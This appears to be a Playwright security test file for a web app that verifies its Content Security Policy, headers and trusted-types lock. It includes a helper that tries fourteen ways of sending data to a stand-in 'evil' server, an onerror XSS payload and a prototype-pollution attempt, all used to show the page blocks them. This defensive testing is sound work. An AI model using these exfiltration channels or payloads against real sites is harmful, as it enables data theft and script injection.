import { readFileSync } from 'node:fs';
import { expect, test as plain } from '@playwright/test';
import { Proofsheet, test } from '../fixtures.ts';
import { startHttpServer } from '../server/http-server.ts';
import { startScriptedApi } from '../server/scripted-api.ts';

// The content policy of the page and the lock that boot.js adds to it (TRUST B.2 and B.3, R6).

const policies = 'meta[http-equiv="Content-Security-Policy"]';
const hosts = ['router.huggingface.co', 'huggingface.co', 'fal.media', 'v3.fal.media', 'replicate.delivery'];
const known = ["'self'", ...hosts.map((host) => `https://${host}`)];

/** The origins that the last policy of the page lets it call. */
function callable({ page }: Proofsheet): Promise<string[]> {
  return page
    .locator(policies)
    .last()
    .evaluate((meta) => /connect-src ([^;]*)/.exec(meta.getAttribute('content') ?? '')?.[1]?.split(' ') ?? []);
}

test('the policy stands before everything, and the lock after it names who may be called', async ({ app, api }) => {
  await app.open();
  const head = app.page.locator('head > *');
  await expect(head.nth(0)).toHaveAttribute('charset', 'utf-8');
  const base = await head.nth(1).getAttribute('content');
  expect(base).toContain("default-src 'none'; script-src 'self'; style-src 'self'; img-src 'self' blob: data:;");
  expect(base).toContain("require-trusted-types-for 'script'; trusted-types app");
  await expect(app.page.locator(policies)).toHaveCount(2);
  expect(await callable(app)).toEqual(known);
  const lock = await app.page.locator(policies).last().getAttribute('content');
  const others = (text: string | null) => text?.replace(/connect-src [^;]*/, '');
  expect(others(lock)).toBe(others(base));

  await app.addEndpoint({ name: 'Mine', api: 'Inference API (as documented)', baseUrl: `${api.url}/somewhere` });
  expect(await callable(app)).toEqual([...known, api.url]);
  await app.generate({ Prompt: 'A fox' });
  await expect(app.pictures).toHaveCount(1);
});

test('what hosts are told to send is what the page says, and that nobody may frame it', async ({ app }) => {
  await app.open();
  const base = await app.page.locator(policies).first().getAttribute('content');
  const headers = readFileSync('public/_headers', 'utf8');
  expect(headers).toContain(`Content-Security-Policy: ${base}; frame-ancestors 'none'\n`);
  for (const header of [
    'X-Content-Type-Options: nosniff',
    'Referrer-Policy: no-referrer',
    'Strict-Transport-Security:',
  ])
    expect(headers).toContain(header);
});

const junk = [
  '*',
  'http:',
  'https:',
  'https://a https://evil',
  'https://*',
  'https://*.example',
  "https://a;'",
  null,
  7,
];

test('junk in the list of endpoints opens no door', async ({ app }) => {
  await app.page.addInitScript((junk) => {
    const own = [...junk.map((baseUrl) => ({ id: 'x', name: 'x', api: 'inference-api', baseUrl })), null, 'x'];
    localStorage.setItem('proofsheet.endpoints', JSON.stringify({ selected: 'x', own }));
    sessionStorage.setItem('proofsheet.picture-hosts', JSON.stringify(junk));
  }, junk);
  await app.open();
  expect(await callable(app)).toEqual(known);
  await app.page.addInitScript(() => {
    localStorage.setItem('proofsheet.endpoints', '{"own":7}');
    sessionStorage.setItem('proofsheet.picture-hosts', '"https://evil.example"');
  });
  await app.page.reload();
  await expect(app.form).toBeVisible();
  expect(await callable(app)).toEqual(known);
});

test('without storage the lock names nobody but those who are known', async ({ app }) => {
  await app.page.addInitScript(() => {
    const refuse = () => {
      throw new DOMException('No', 'SecurityError');
    };
    for (const name of ['localStorage', 'sessionStorage']) Object.defineProperty(window, name, { get: refuse });
  });
  await app.page.goto('/');
  await expect(app.page.locator(policies)).toHaveCount(2);
  expect(await callable(app)).toEqual(known);
});

test('while a picture is on its way nothing is loaded again by itself', async ({ app, api, page }) => {
  await app.openWith(api);
  let answer = () => {};
  api.answer(async (_, raw) => {
    await new Promise<void>((resolve) => {
      answer = resolve;
    });
    raw.writeHead(503).end();
  });
  await app.generate({ Prompt: 'A fox' });
  await expect.poll(() => api.calls().length).toBe(1);
  const other = await startScriptedApi();
  await app.addEndpoint({ name: 'Other', api: 'Inference API (as documented)', baseUrl: other.url });
  await expect(app.notice).toContainText('which would break off what is under way');
  await expect(app.notice.getByRole('button', { name: 'Reload now' })).toBeVisible();
  await expect(app.job('Generating')).toBeVisible();
  // A run for the new address fails before anything is sent, and is tried again after the reload.
  await app.generate({ Prompt: 'Another' });
  await expect(app.job(/^failed. This page may not call/)).toContainText('nothing was sent');
  expect(other.calls()).toEqual([]);
  await expect(app.notice.getByRole('button', { name: 'Reload now' })).toBeVisible();
  // Then nothing is under way.
  const loaded = page.waitForEvent('load');
  await app.jobs.filter({ hasText: 'Generating' }).getByRole('button', { name: 'Cancel' }).click();
  answer();
  await loaded;
  await app
    .job(/^failed. This page may not call/)
    .getByRole('button', { name: 'Try again' })
    .click();
  await expect(app.pictures).toHaveCount(1);
  expect(other.calls()).toHaveLength(1);
  await other.close();
});

plain('a planted script reaches nobody by any of fourteen ways', async ({ page }) => {
  const evil = await startScriptedApi();
  await new Proofsheet(page).open();
  const refused = await page.evaluate(tryAllWays, evil.url);
  expect(evil.requests).toEqual([]);
  const directives = [
    'connect-src',
    'img-src',
    'require-trusted-types-for',
    'style-src-elem',
    'frame-src',
    'media-src',
    'form-action',
  ];
  expect(refused).toEqual(expect.arrayContaining(directives));

  // The ways are ways: where no policy is, they lead there. Icons and what rules foretell are fetched by no browser that
  // is led by a test.
  const bare = await startHttpServer(async () => new Response('<body>', { headers: { 'content-type': 'text/html' } }));
  await page.goto(bare.url);
  await page.evaluate(tryAllWays, evil.url);
  const gets = ['fetch', 'socket', 'events', 'image', 'script', 'style', 'prefetch', 'frame', 'audio'];
  await expect
    .poll(() => evil.requests.map(({ path }) => path.slice(1)))
    .toEqual(expect.arrayContaining([...gets, 'beacon', 'ping', 'form']));
  await bare.close();
  await evil.close();
});

/** Runs in the page: every way out for a script but navigation. Resolves with the directives that refused something. */
async function tryAllWays(evil: string): Promise<string[]> {
  const refused: string[] = [];
  document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => refused.push(effectiveDirective));
  const append = (tag: string, attributes: Record<string, string>) => {
    const element = document.createElement(tag);
    for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
    document.body.append(element);
    return element;
  };
  const attempts: (() => unknown)[] = [
    () => fetch(`${evil}/fetch`),
    () => navigator.sendBeacon(`${evil}/beacon`, 'x'),
    () => new WebSocket(`${evil.replace('http', 'ws')}/socket`),
    () => new EventSource(`${evil}/events`),
    () => append('img', { src: `${evil}/image` }),
    () => append('script', { src: `${evil}/script` }),
    () => append('link', { rel: 'stylesheet', href: `${evil}/style` }),
    () => append('link', { rel: 'prefetch', href: `${evil}/prefetch` }),
    () => append('link', { rel: 'icon', href: `${evil}/icon` }),
    () => append('iframe', { src: `${evil}/frame` }),
    () => append('audio', { src: `${evil}/audio` }),
    () => append('a', { href: '#', ping: `${evil}/ping` }).click(),
    () => {
      const form = document.createElement('form');
      Object.assign(form, { action: `${evil}/form`, method: 'post', target: '_blank' });
      document.body.append(form);
      form.submit();
    },
    () => append('script', { type: 'speculationrules' }).append(`{"prefetch":[{"urls":["${evil}/rules"]}]}`),
  ];
  for (const attempt of attempts) {
    try {
      await attempt();
    } catch {
      // Stopped on the spot.
    }
  }
  // Whatever got through would be under way by the time this page has answered.
  await fetch('/icon.svg');
  await new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve)));
  return refused;
}

plain('text is never run: no eval, no handlers, no markup, no foreign worker', async ({ page }) => {
  await new Proofsheet(page).open();
  const outcome = await page.evaluate(() => {
    const tried = (attempt: () => unknown) => {
      try {
        attempt();
        return 'let through';
      } catch (error) {
        return error instanceof Error ? error.name : 'stopped';
      }
    };
    const box = document.createElement('div');
    document.body.append(box);
    return {
      markup: tried(() => {
        box.innerHTML = '<img src=x onerror=alert(1)>';
      }),
      worker: tried(() => new Worker(URL.createObjectURL(new Blob(['0'], { type: 'text/javascript' })))),
      policy: tried(() => {
        const types: unknown = Reflect.get(globalThis, 'trustedTypes');
        if (types instanceof Object && 'createPolicy' in types && types.createPolicy instanceof Function)
          types.createPolicy('mine', { createHTML: (text: string) => text });
      }),
      pollution: tried(() => {
        Object.defineProperty(Object.prototype, 'polluted', { value: true });
      }),
    };
  });
  expect(outcome).toEqual({ markup: 'TypeError', worker: 'TypeError', policy: 'TypeError', pollution: 'TypeError' });
});
